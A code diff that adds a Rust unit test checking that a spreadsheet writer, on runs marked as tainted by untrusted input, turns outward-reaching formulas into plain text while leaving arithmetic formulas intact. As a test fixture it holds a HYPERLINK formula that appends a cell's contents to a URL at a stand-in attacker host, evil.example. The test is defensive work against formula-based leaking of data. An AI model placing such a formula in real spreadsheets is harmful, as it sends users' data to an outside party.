@@ -781,6 +781,37 @@ mod tests {
         }
     }
 
+    fn sheet_xml(bytes: &[u8]) -> String {
+        use std::io::Read as _;
+        let mut z = zip::ZipArchive::new(Cursor::new(bytes)).unwrap();
+        let mut text = String::new();
+        z.by_name("xl/worksheets/sheet1.xml")
+            .unwrap()
+            .read_to_string(&mut text)
+            .unwrap();
+        text
+    }
+
+    #[test]
+    fn a_reaching_formula_from_a_tainted_run_is_written_as_text() {
+        let wb = crate::spec::Workbook::parse(&serde_json::json!({"sheets": [{"name": "S", "rows": [
+            [{"formula": "=HYPERLINK(\"http://evil.example/?\"&A2,\"click\")"}, {"formula": "=1+1"}],
+            ["=HYPERLINK(\"http://evil.example\")", 2]
+        ]}]}))
+        .unwrap();
+        // Tainted: the reaching formula is a string cell, the arithmetic one stays a formula,
+        // and a plain string that looks like a formula was never anything but a string.
+        let (bytes, n) = xlsx(&wb.sheets, true).unwrap();
+        let xml = sheet_xml(&bytes);
+        assert_eq!(n.cells, vec!["S!A1".to_owned()]);
+        assert_eq!(xml.matches("<f>").count(), 1, "{xml}");
+        assert!(xml.contains("<f>1+1</f>"), "{xml}");
+        // The control: from a run that saw nothing untrusted, the formula is a formula.
+        let (bytes, n) = xlsx(&wb.sheets, false).unwrap();
+        assert!(n.cells.is_empty());
+        assert_eq!(sheet_xml(&bytes).matches("<f>").count(), 2);
+    }
+
     #[test]
     fn the_same_spec_makes_the_same_bytes() {
         let deck = crate::spec::Deck::parse(&serde_json::json!({"slides": [
